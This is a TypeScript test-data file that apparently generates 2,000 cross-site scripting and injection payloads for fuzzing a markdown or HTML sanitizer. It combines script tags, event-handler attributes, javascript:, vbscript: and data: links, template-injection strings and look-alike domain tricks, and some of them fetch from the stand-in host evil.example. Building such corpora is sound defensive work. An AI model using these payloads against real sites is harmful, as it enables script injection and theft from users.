/** Texts that would run somewhere if anything here were taken for HTML, an address or a template. */
const CORES = ['alert(1)', 'window.__ran=1', 'top.__ran=1', 'fetch("//evil.example")', 'document.body.innerHTML=1']

const SHELLS: readonly ((core: string) => string)[] = [
  (c) => `<script>${c}</script>`,
  (c) => `<ScRiPt>${c}</sCrIpT>`,
  (c) => `<scr<script>ipt>${c}</scr</script>ipt>`,
  (c) => `<img src=x onerror=${c}>`,
  (c) => `<img src="x" onerror="${c}"`,
  (c) => `<svg/onload=${c}>`,
  (c) => `<svg><script>${c}</script></svg>`,
  (c) => `<math><mi//xlink:href="data:x,<script>${c}</script>">`,
  (c) => `<iframe srcdoc="<script>${c}</script>"></iframe>`,
  (c) => `<a href="javascript:${c}">x</a>`,
  (c) => `[x](javascript:${c.replace(/[()]/g, '')})`,
  (c) => `[x](JaVaScRiPt:${c.replace(/[()]/g, '')})`,
  (c) => `[x](java\tscript:${c.replace(/[()]/g, '')})`,
  (c) => `[x](data:text/html,<script>${c}</script>)`,
  (c) => `[x](vbscript:${c.replace(/[()]/g, '')})`,
  (c) => `[x](//evil.example/${c.replace(/[()]/g, '')})`,
  (c) => `[x](https://openstd.samr.gov.cn@evil.example/${c.length})`,
  (c) => `[x](https://openstd.samr.gov.cn.evil.example/${c.length})`,
  (c) => `![x](x" onerror="${c.replace(/[()]/g, '')})`,
  (c) => `![x](https://evil.example/p.png?${c.length})`,
  (c) => `<style>@import "//evil.example?${c}"</style>`,
  (c) => `<body onload=${c}>`,
  (c) => `<details open ontoggle=${c}>`,
  (c) => `<!--><script>${c}</script>-->`,
  (c) => `<![CDATA[<script>${c}</script>]]>`,
  (c) => `&lt;script&gt;${c}&lt;/script&gt;`,
  (c) => `\\u003cscript\\u003e${c}\\u003c/script\\u003e`,
  (c) => `{{constructor.constructor('${c}')()}}`,
  (c) => `\${${c}}`,
  (c) => `$R_{<img src=x onerror=${c}>}$`,
  (c) => `\`<script>${c}</script>\``,
  (c) => `**<script>${c}</script>**`,
  (c) => `| <script>${c}</script> | x |`,
  (c) => `> <script>${c}</script>`,
  (c) => `## <script>${c}</script>`,
  (c) => `- <script>${c}</script>`,
  (c) => `<base href="//evil.example/"><a href="x">${c}</a>`,
  (c) => `<form action="javascript:${c}"><button>x</button></form>`,
  (c) => `<input autofocus onfocus=${c}>`,
  (c) => `<object data="javascript:${c}"></object>`,
]

const WRAPS: readonly ((payload: string) => string)[] = [
  (p) => p,
  (p) => `水泥 ${p} 强度`,
  (p) => `"'>${p}`,
  (p) => `\u202e${p}\u202c`,
  (p) => p.replaceAll('<', '<\u0000'),
  (p) => `${p}${p}`,
  (p) => `\`\`\`figure\nkind: rule\ncaption: ${p.replaceAll('\n', ' ')}\n\`\`\``,
  (p) => `[${p.replace(/[[\]]/g, '')}](/knowledge/detail?id=sd-and-cv)`,
  (p) => p.normalize('NFKC').replaceAll('<', '\uff1c'),
  (p) => `\n\n${p}\n\n`,
]

/** 5 × 40 × 10 = 2,000. */
export const PAYLOADS: readonly string[] = CORES.flatMap((core) =>
  SHELLS.flatMap((shell) => WRAPS.map((wrap) => wrap(shell(core)))),
)
